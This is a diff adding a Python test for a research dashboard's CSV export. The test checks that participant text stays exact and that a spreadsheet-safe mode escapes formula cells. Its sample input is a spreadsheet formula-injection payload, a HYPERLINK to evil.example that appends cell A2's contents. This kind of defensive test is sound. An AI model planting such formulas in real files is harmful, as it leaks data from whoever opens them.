@@ -197,6 +197,26 @@ def test_dashboard_export_with_demographics_on_request(app, client, researcher):
     assert b"P-DEMO" not in b"".join(zf.read(n) for n in zf.namelist())
 
 
+def test_dashboard_export_keeps_text_exact_and_escapes_formulas_only_for_spreadsheets(app, client, researcher):
+    """A participant's text that a spreadsheet would run as a formula is exported exactly (the
+    research data); "safe to open in a spreadsheet" gives such cells a leading ' and says so."""
+    w = Walker(app.test_client(), "P-SHEET")
+    w.arrive()
+    w.consent()
+    data = w.to_task()
+    prompt = '=HYPERLINK("https://evil.example/?d="&A2,"click")'
+    w.chat_turn(data, 0, prompt, feedback="@everyone +1")
+    assert login(client, *researcher).status_code == 302
+    assert 'name="spreadsheet"' in client.get("/admin/studies/test-study").text
+    for spreadsheet, quote in (("0", ""), ("1", "'")):
+        r = client.get(f"/admin/studies/test-study/export?format=ifllm&spreadsheet={spreadsheet}")
+        assert r.status_code == 200 and ("for-spreadsheets" in r.headers["Content-Disposition"]) == bool(quote)
+        zf = zipfile.ZipFile(io.BytesIO(r.data))
+        queries = pd.read_csv(io.BytesIO(zf.read("test-study/query_logs_table.csv")))
+        assert queries[["user_query", "comment"]].values.tolist() == [[quote + prompt, quote + "@everyone +1"]]
+        assert ("test-study/SPREADSHEET_SAFE.txt" in zf.namelist()) == bool(quote)
+
+
 def test_dashboard_export_with_demographics_nobody_answered_says_so(app, client, researcher):
     """Ticking "include the demographics answers" where nobody answered: the zip says why it has
     no demographics.csv, as the command line does."""
